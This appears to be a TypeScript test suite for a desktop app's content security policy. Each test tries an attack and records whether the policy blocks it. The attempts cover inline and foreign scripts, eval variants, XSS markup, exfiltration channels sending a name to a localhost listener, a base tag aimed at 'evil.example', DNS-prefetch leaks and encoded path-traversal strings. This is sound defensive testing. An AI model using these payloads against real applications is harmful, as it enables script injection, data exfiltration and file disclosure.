import { readFile } from 'node:fs/promises';
import { attack, pageAttack } from './fixtures';

pageAttack('inlineScript', () =>
  window.violation(() => {
    const script = document.createElement('script');
    script.setAttribute('nonce', 'x');
    script.append('document.title = "owned"');
    document.head.append(script);
  }),
);

pageAttack('inlineHandler', () =>
  window.violation(() => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'document.title = "owned"');
    button.click();
  }),
);

pageAttack('evaluate', async () => {
  // The debugging port lifts the policy until the first pause of what it runs.
  await window.ringside.call.recent();
  const codes = [
    () => Reflect.get(globalThis, 'eval')('1 + 1'),
    () => Reflect.construct(Function, ['return 1'])(),
    () => (async () => undefined).constructor('return 1')(),
    () => setTimeout('document.title = "owned"' as never),
  ];
  return (await Promise.all(codes.map((code) => window.attempt(code)))).join(', ');
});

pageAttack('trustedTypes', async () => {
  const div = document.createElement('div');
  const markup = '<img src=x onerror=alert(1)>';
  const factory = Reflect.get(window, 'trustedTypes');
  return [
    await window.attempt(() => Reflect.set(div, 'innerHTML', markup)),
    await window.attempt(() => document.body.insertAdjacentHTML('beforeend', markup)),
    await window.attempt(() => new DOMParser().parseFromString(markup, 'text/html')),
    await window.attempt(() => factory.createPolicy('default', { createHTML: (text: string) => text })),
  ].join(', ');
});

pageAttack('inlineStyle', () =>
  window.violation(() => {
    const style = document.createElement('style');
    style.append('body { display: none }');
    document.head.append(style);
  }),
);

pageAttack('foreignScript', (port) =>
  window.violation(() => {
    const script = document.createElement('script');
    script.setAttribute('src', `http://127.0.0.1:${port}/evil.js`);
    document.head.append(script);
  }),
);

pageAttack('moduleImport', async (port) => {
  const sources = [
    `http://127.0.0.1:${port}/evil.js`,
    'data:text/javascript,document.title="owned"',
    'blob:x',
  ];
  const tried = sources.map((source) => window.attempt(() => import(source)));
  return (await Promise.all(tried)).join(', ');
});

pageAttack('foreignImage', (port) => {
  const image = new Image();
  const loaded = window.load(image);
  image.src = `http://127.0.0.1:${port}/?name=Bullock`;
  return loaded;
});

pageAttack('fetched', (port) =>
  window.attempt(() =>
    fetch(`http://127.0.0.1:${port}/`, { method: 'POST', mode: 'no-cors', body: 'Bullock' }),
  ),
);

pageAttack('olderRequests', async (port) => {
  const url = `http://127.0.0.1:${port}/`;
  const request = new Promise((done, failed) => {
    const xhr = new XMLHttpRequest();
    xhr.onload = done;
    xhr.onerror = failed;
    xhr.open('POST', url);
    xhr.send('Bullock');
  });
  const events = new Promise((done, failed) => {
    const source = new EventSource(url);
    source.onopen = done;
    source.onerror = failed;
  });
  // Chromium says that it has queued a beacon even when its policy then refuses it: the listener has the last word.
  navigator.sendBeacon(url, 'Bullock');
  return [await window.attempt(() => request), await window.attempt(() => events)].join(', ');
});

pageAttack('webSocket', (port) =>
  window.attempt(
    () =>
      new Promise((done, failed) => {
        const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
        socket.onopen = done;
        socket.onerror = failed;
      }),
  ),
);

pageAttack('webTransport', (port) =>
  window.attempt(() => {
    const Transport = Reflect.get(window, 'WebTransport');
    return new Transport(`https://127.0.0.1:${port}/`).ready;
  }),
);

pageAttack('webRtc', async (port) => {
  const turn = { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'a', credential: 'b' };
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }, turn] });
  peer.createDataChannel('x');
  const candidates: string[] = [];
  const complete = new Promise<void>((done) => {
    peer.onicecandidate = ({ candidate }) => (candidate ? candidates.push(candidate.candidate) : done());
  });
  await peer.setLocalDescription(await peer.createOffer());
  await complete;
  return candidates.length === 0 ? 'no way out found' : candidates.join(', ');
});

pageAttack('formPost', (port) =>
  window.violation(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = `http://127.0.0.1:${port}/`;
    document.body.append(form);
    form.submit();
    form.remove();
  }),
);

pageAttack('foreignFrame', (port) =>
  window.violation(() => {
    const frame = document.createElement('iframe');
    frame.src = `http://127.0.0.1:${port}/`;
    document.body.append(frame);
  }),
);

pageAttack('plugin', (port) =>
  window.violation(() => {
    const object = document.createElement('object');
    object.data = `http://127.0.0.1:${port}/`;
    document.body.append(object);
  }),
);

pageAttack('workers', async (port) => {
  const url = `http://127.0.0.1:${port}/worker.js`;
  const code = new Blob(['postMessage(1)']);
  const started = (source: string) =>
    new Promise((done, failed) => {
      const worker = new Worker(source as never);
      worker.onmessage = done;
      worker.onerror = failed;
    });
  return [
    await window.attempt(() => started(URL.createObjectURL(code))),
    await window.attempt(() => started(url)),
    await window.attempt(() => navigator.serviceWorker.register(url as never)),
    await window.attempt(() => navigator.serviceWorker.register('/sw.js' as never)),
  ].join(', ');
});

pageAttack('fontsAndMedia', async (port) => {
  const url = `http://127.0.0.1:${port}/x`;
  const video = document.createElement('video');
  const played = new Promise((done, failed) => {
    video.oncanplay = done;
    video.onerror = failed;
    video.src = url;
  });
  return [
    await window.attempt(() => new FontFace('x', `url(${url})`).load()),
    await window.attempt(() => played),
  ].join(', ');
});

pageAttack('styleRequests', async (port) => {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(`body { background-image: url(http://127.0.0.1:${port}/?name=Bullock) }`);
  const refused = window.violation(() => {
    document.adoptedStyleSheets = [sheet];
  });
  const directive = await refused;
  document.adoptedStyleSheets = [];
  return directive;
});

pageAttack('hints', async (port) => {
  const url = `http://127.0.0.1:${port}/`;
  for (const rel of [
    'prefetch',
    'preload',
    'modulepreload',
    'preconnect',
    'prerender',
    'dns-prefetch',
    'icon',
  ]) {
    const link = document.createElement('link');
    link.rel = rel;
    link.as = 'image';
    link.href = url;
    document.head.append(link);
  }
  const rules = document.createElement('script');
  rules.type = 'speculationrules';
  const tried = await window.attempt(() => {
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] });
    document.head.append(rules);
  });
  // A request of the page's own that comes back shows that those before it had their time.
  await window.ringside.customer.get({ id: '1002', scope: 'studio' });
  return `speculation rules ${tried}`;
});

pageAttack('baseUri', () =>
  window.violation(() => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
  }),
);

attack('nameServer', async ({ home, openDevelopment }) => {
  const log = `${home}/net.json`;
  const { page, desk, end } = await openDevelopment(['--demo', `--log-net-log=${log}`]);
  await desk.find('1001');
  await desk.account.waitFor();
  await page.evaluate(() => {
    for (const rel of ['dns-prefetch', 'preconnect']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = `https://bullock-${rel}.example/`;
      document.head.append(link);
    }
  });
  await page.reload();
  await desk.box.waitFor();
  await end();
  const seen = await readFile(log, 'utf8');
  if (!seen.includes('/v1/customers/1001')) return 'nothing was recorded';
  return /bullock-[a-z-]+\.example/.exec(seen)?.[0] ?? 'no name was asked for';
});

/** Loads a URL of the page's own scheme, as its policy would allow, and tells what it was answered. */
function served(path: string) {
  return async ({ range: { page } }: Parameters<Parameters<typeof attack>[1]>[0]) => {
    const session = await page.context().newCDPSession(page);
    await session.send('Network.enable');
    const status = new Promise<string>((told) => {
      session.on('Network.responseReceived', ({ response }) => told(String(response.status)));
      session.on('Network.loadingFailed', ({ blockedReason, errorText }) => told(blockedReason ?? errorText));
    });
    const loaded = page.evaluate((source) => {
      const image = new Image();
      const done = window.load(image);
      image.src = source;
      return done;
    }, path);
    const seen = `${await status}, ${await loaded}`;
    await session.detach();
    return seen;
  };
}

attack('traversal', served('app://ringside/..%2fmain/index.js'));
attack('traversalTwice', served('app://ringside/assets/..%5c..%5cmain%5cindex.js'));
attack('unknownPath', served('app://ringside/settings.json'));
attack('notThePage', served('app://ringside/licences.json'));
attack('otherHost', served('app://other/index.html'));
